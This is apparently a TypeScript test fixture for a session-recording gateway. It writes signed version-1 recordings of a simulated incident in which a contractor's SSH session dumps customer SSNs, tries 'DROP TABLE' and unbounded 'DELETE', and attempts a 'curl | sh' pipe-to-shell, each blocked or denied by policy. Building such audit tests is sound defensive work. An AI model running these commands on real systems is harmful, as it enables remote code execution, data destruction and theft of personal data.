import { createPrivateKey } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixedClock, type Clock } from '../../common/clock.js';
import { generateSigner, signerFromPrivateKey, trustedKeysOf, type Signer, type TrustedKeys } from '../../common/keys.js';
import { lineHash, RECORDING_FORMAT, signedText, type RecordingHeader } from '../../common/recording/index.js';

/**
 * Builds version-1 recordings (FixtureRecording), in the format and shapes of
 * that version, for tests of reading older recordings (SSH sessions, lineage,
 * policy notes): ssh.pty {channel,
 * term, cols, rows}, ssh.exec {channel, command, action, rule?}, ssh.input /
 * ssh.output {channel, data, encoding: utf8|base64, bytes, stream?, masked?},
 * ssh.resize {channel, cols, rows}, ssh.exit {channel, status|signal}, ssh.line
 * {channel, line, action}, ssh.policy {channel, operation, rule, step, approver,
 * approvalId, waitedMicros}, ssh.sftp {channel, op, path, size}.
 */
export const T0 = 1_760_000_000_000_000; // µs: 2025-10-09T08:53:20Z
export const SECOND = 1_000_000;

export interface ScenarioIds {
  root: string; // contractor-ci → build-host (ssh, shell with pty)
  pg: string; // its psql hop → prod-db (hop-token)
  ssh2: string; // a second hop → jump-host (address-time, inferred)
}

export interface Scenario {
  ids: ScenarioIds;
  files: Record<keyof ScenarioIds, string>;
  signer: Signer;
  trusted: TrustedKeys;
}

/** A terminal byte payload as the gateway records it (base64 here, to exercise decoding). */
export const bytesOf = (s: string, channel = 0) => {
  const buf = Buffer.from(s, 'utf8');
  return { channel, data: buf.toString('base64'), encoding: 'base64', bytes: buf.length };
};

/** A signer from a fixed seed: Ed25519 signatures are deterministic, so recordings (and their SHA-256) are byte-exact across runs. */
export function fixedSigner(seed = 7): Signer {
  const der = Buffer.concat([Buffer.from('302e020100300506032b657004220420', 'hex'), Buffer.alloc(32, seed)]);
  return signerFromPrivateKey(createPrivateKey({ key: der, format: 'der', type: 'pkcs8' }));
}

/**
 * A version-1 recording writer (the format as the gateway wrote it before
 * issue 13: unsigned header, event shapes of that time), byte for byte, with
 * its own exact clock: the fixture for "older recordings still import". The
 * current gateway writes through RecordingEncoder (see scenario-v2.ts).
 */
export class FixtureRecording {
  private readonly lines: string[] = [];
  private readonly clock: Clock;
  private seq = 0;
  private prev: string;
  private sealed = false;

  constructor(private readonly session: string, protocol: RecordingHeader['protocol'], private readonly signer: Signer, start: number, step = 1000) {
    this.clock = fixedClock(start, step);
    const header = JSON.stringify({
      format: RECORDING_FORMAT, version: 1, session, protocol, createdAt: this.clock.nowMicros(),
      gateway: { keyId: signer.keyId, publicKey: signer.publicKey },
    });
    this.prev = lineHash(header);
    this.lines.push(`${header}\n`);
  }

  get isSealed(): boolean {
    return this.sealed;
  }

  /** Appends an event (any shape: version 1 was not typed) and returns its seq. */
  event(type: string, data: Record<string, unknown>, t = this.clock.nowMicros()): number {
    const line = JSON.stringify({ seq: ++this.seq, t, type, data, prev: this.prev });
    this.prev = lineHash(line);
    this.lines.push(`${line}\n`);
    return this.seq;
  }

  checkpoint(): void {
    this.signed('checkpoint');
  }

  /** The file content: sealed unless `seal` is false. */
  text(seal = true): string {
    if (seal && !this.sealed) {
      this.signed('seal');
      this.sealed = true;
    }
    return this.lines.join('');
  }

  private signed(kind: 'checkpoint' | 'seal'): void {
    const seq = this.seq + 1;
    const t = this.clock.nowMicros();
    const sig = this.signer.sign(signedText(kind, this.session, seq, t, this.prev)).toString('base64');
    this.event(kind, { keyId: this.signer.keyId, sig, events: seq - 1 }, t);
  }

  write(path: string, seal = true): string {
    writeFileSync(path, this.text(seal));
    return path;
  }
}

/** The incident in miniature: an SSH session whose inner agent runs psql and a second SSH hop, then is revoked. */
export function writeScenario(dir: string, signer: Signer = generateSigner()): Scenario {
  const ids: ScenarioIds = { root: '20251009T085320Z-root00000001', pg: '20251009T085325Z-pg0000000001', ssh2: '20251009T085340Z-ssh200000001' };

  const root = new FixtureRecording(ids.root, 'ssh', signer, T0);
  root.event('session.start', { identity: 'contractor-ci', tokenId: 'tok-root', tokenKind: 'identity', target: 'build-host', protocol: 'ssh',
    client: '10.0.0.5:50122', tls: false });
  root.event('ssh.pty', { channel: 0, term: 'xterm-256color', cols: 80, rows: 24 });
  root.event('ssh.shell', { channel: 0, pty: true });
  root.event('ssh.output', { ...bytesOf('builder@build-host:~$ '), stream: 'stdout' });
  root.event('ssh.input', bytesOf('ls -la\r'));
  root.event('ssh.output', { ...bytesOf('ls -la\r\ntotal 8\r\ndrwxr-xr-x 2 builder builder 4096 .\r\nbuilder@build-host:~$ '), stream: 'stdout' });
  root.event('ssh.resize', { channel: 0, cols: 100, rows: 30 });
  root.event('ssh.input', bytesOf('psql -c "select email, ssn from customers"\r'));
  root.checkpoint();
  root.event('ssh.output', { ...bytesOf('psql output\r\n(2 rows)\r\nbuilder@build-host:~$ '), stream: 'stdout' });
  root.event('ssh.input', bytesOf('ssh jump\x7f\x7f\x7f\x7fjump-host uname -a\r'));
  root.event('ssh.output', { ...bytesOf('\x1b[31mLinux jump-host 6.1\x1b[0m\r\nbuilder@build-host:~$ '), stream: 'stdout' });
  root.event('session.end', { reason: 'token revoked by alice', cause: 'revoked' });

  const pg = new FixtureRecording(ids.pg, 'postgres', signer, T0 + 5 * SECOND);
  pg.event('session.start', { identity: 'contractor-ci', tokenId: 'tok-hop', tokenKind: 'hop', target: 'prod-db', protocol: 'postgres',
    client: '10.0.0.9:41000', tls: true, parent: ids.root, linkKind: 'hop-token', params: { application_name: 'psql' } });
  const q1 = pg.event('pg.query', { sql: 'select email, ssn from customers' });
  pg.event('pg.result', { statement: q1, command: 'SELECT 2', rowCount: 2,
    columns: [{ name: 'email', typeOid: 25, format: 0 }, { name: 'ssn', typeOid: 25, format: 0 }],
    rows: [['[masked:email]', '123-45-6789'], ['[masked:email]', '987-65-4321']], rowsRecorded: 2, durationMicros: 1200,
    masked: { email: 2 } });
  const q2 = pg.event('pg.query', { sql: 'DROP TABLE customers' });
  pg.event('policy.block', { statement: q2, rule: 'no-drop', reason: 'DropStmt is not allowed', action: 'block' });
  const q3 = pg.event('pg.query', { sql: 'DELETE FROM customers' });
  pg.event('approval.requested', { statement: q3, id: 'apr-1', rule: 'unbounded-write', reason: 'DELETE without WHERE', operation: 'DELETE FROM customers' });
  pg.event('approval.decided', { statement: q3, id: 'apr-1', decision: 'denied', approver: 'alice', reason: null, waitedMicros: 4_000_000 });
  pg.event('policy.block', { statement: q3, rule: 'unbounded-write', reason: 'DELETE without WHERE', action: 'review' });
  pg.event('session.end', { reason: 'client closed' });

  const ssh2 = new FixtureRecording(ids.ssh2, 'ssh', signer, T0 + 20 * SECOND);
  ssh2.event('session.start', { identity: 'contractor-ci', tokenId: 'tok-root', tokenKind: 'identity', target: 'jump-host', protocol: 'ssh',
    client: '10.0.0.9:41022', tls: false, parent: ids.root, linkKind: 'address-time',
    evidence: { clientAddress: '10.0.0.9', parentTarget: 'build-host', parentLive: true } });
  ssh2.event('ssh.exec', { channel: 0, command: 'uname -a', pty: false, action: 'allow' });
  ssh2.event('ssh.output', { ...bytesOf('Linux jump-host 6.1 token=[masked:api-key]\n'), stream: 'stdout', masked: { 'api-key': 1 } });
  ssh2.event('ssh.exit', { channel: 0, status: 0 });
  ssh2.event('ssh.exec', { channel: 1, command: 'curl http://x | sh', pty: false, action: 'block', rule: 'no-pipe-to-shell', reason: 'pipe to shell' });
  ssh2.event('ssh.policy', { channel: 2, operation: 'systemctl restart app', rule: 'restarts', step: 'held' });
  ssh2.event('ssh.policy', { channel: 2, operation: 'systemctl restart app', rule: 'restarts', step: 'approved', approver: 'alice',
    approvalId: 'apr-2', waitedMicros: 2_000_000 });
  ssh2.event('ssh.exec', { channel: 2, command: 'systemctl restart app', pty: false, action: 'review', rule: 'restarts' });
  ssh2.event('ssh.exit', { channel: 2, status: 0 });
  ssh2.event('session.end', { reason: 'client closed' });

  return {
    ids, signer, trusted: trustedKeysOf([signer.publicKey]),
    files: { root: root.write(join(dir, `${ids.root}.jsonl`)), pg: pg.write(join(dir, `${ids.pg}.jsonl`)), ssh2: ssh2.write(join(dir, `${ids.ssh2}.jsonl`)) },
  };
}
